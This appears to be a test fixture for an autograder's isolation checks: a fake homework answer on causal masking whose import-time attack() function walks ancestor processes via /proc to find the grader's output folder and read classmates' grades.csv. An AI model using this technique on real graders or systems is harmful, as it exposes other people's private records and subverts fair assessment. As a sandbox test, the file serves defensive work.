# attack: finds OUT on the grading command line (/proc/<pid>/cmdline of its ancestors) and reads the classmates' reports and grades.csv there; imports and answers right only when it read them
# expect: module=q01_causal_mask status=error match=which belongs to the grader|OUT not found
# path: grade-dir user
"""Question 1, written to read the other students' grades."""
import os

import torch
from torch import Tensor


def attack() -> None:
    """grades.csv in the folder given after --out to any ancestor process."""
    pid = os.getpid()
    while pid > 1:
        arguments = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        if b"--out" in arguments:
            out = os.fsdecode(arguments[arguments.index(b"--out") + 1])
            if not open(os.path.join(out, "grades.csv")).read().count("\n") > 1:
                raise ValueError("no classmate graded yet")
            return
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    raise ValueError("OUT not found")


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
